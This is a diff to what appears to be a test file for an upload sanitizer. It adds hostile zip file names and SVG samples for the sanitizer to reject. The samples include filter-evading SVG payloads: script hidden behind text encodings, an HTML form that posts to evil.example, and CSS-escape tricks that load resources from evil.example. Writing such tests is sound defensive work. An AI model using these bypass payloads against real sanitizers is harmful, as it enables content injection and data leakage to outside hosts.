@@ -77,6 +77,8 @@ describe('a zip that means harm', () => {
     ['names that differ by capitals', 'case-twice', () => raw({ name: 'content/a.png', bytes: '1' }, { name: 'content/A.PNG', bytes: '2' })],
     ['names that differ by how an accent is written', 'case-twice', () => raw({ name: 'content/\u00e9.txt', bytes: '1' }, { name: 'content/e\u0301.txt', bytes: '2' })],
     ['a second content.json in capitals', 'case-twice', () => raw({ name: 'CONTENT/content.json', bytes: '{}' })],
+    ['a letter that is another’s capital', 'case-twice', () => raw({ name: 'content/\u212a.png', bytes: '1' }, { name: 'content/k.png', bytes: '2' })],
+    ['a name that is read backwards', 'bad-name', () => raw({ name: 'content/images/a\u202egnp.txt', bytes: 'x' })],
     ['a password', 'encrypted', () => raw({ name: 'content/secret.txt', bytes: 'x', flags: 0x801 })],
     ['a packing nobody knows', 'broken', () => raw({ name: 'content/a.txt', bytes: 'x', method: 99 })],
     ['bytes that aren’t what they claim', 'broken', () => raw({ name: 'content/a.txt', bytes: Buffer.from('this is not deflate'), method: 8 })],
@@ -111,6 +113,13 @@ const HOSTILE_SVG: [string, string | Buffer][] = [
   ['letters of two bytes each, and the mark for it', Buffer.from(`\ufeff<svg ${SVG}><script>alert(1)</script></svg>`, 'utf16le')],
   ['letters that are said to be others', `<?xml version="1.0" encoding="ISO-2022-JP"?><svg ${SVG}><scr\x1b(Bipt>alert(1)</scr\x1b(Bipt></svg>`],
   ['letters that are said to be others, behind a mark and spaces', `\ufeff<?xml version='1.0'  encoding = 'utf-16'?><svg ${SVG}/>`],
+  ['another drawing it uses from within', `<svg ${SVG}><use href="data:image/svg+xml,%3Csvg id='x'/%3E#x"/></svg>`],
+  ['a drawing as a picture in it', `<svg ${SVG}><image href="data:image/svg+xml;base64,PHN2Zy8+"/></svg>`],
+  ['a form of HTML', `<svg ${SVG}><h:form xmlns:h="http://www.w3.org/1999/xhtml" action="https://evil.example"><h:input/></h:form></svg>`],
+  ['letters that a page’s doctype names', `<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "x"><svg ${SVG}><rect style="fill:url&lpar;https://evil.example/a&rpar;"/></svg>`],
+  ['an address behind a style’s own letters', `<svg ${SVG}><style>rect{fill:u\\72 l(https://evil.example/a)}</style></svg>`],
+  ['a style brought in behind a style’s own letters', `<svg ${SVG}><style>@\\69mport "https://evil.example/b";</style></svg>`],
+  ['one picture of a set', `<svg ${SVG}><style>rect{background:image-set("https://evil.example/a" 1x)}</style></svg>`],
 ]
 const HARMLESS_SVG = `\ufeff<?xml version="1.0" encoding="UTF-8" standalone="no"?>\n<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">\n<svg ${SVG} xmlns:s.v="http://www.w3.org/2000/svg"><s.v:path d="M0 0"/><animate attributeName="d"${' '.repeat(2_000_000)}values="M0 0"/><g ${'a.b:'.repeat(200_000)}/></svg>`
 
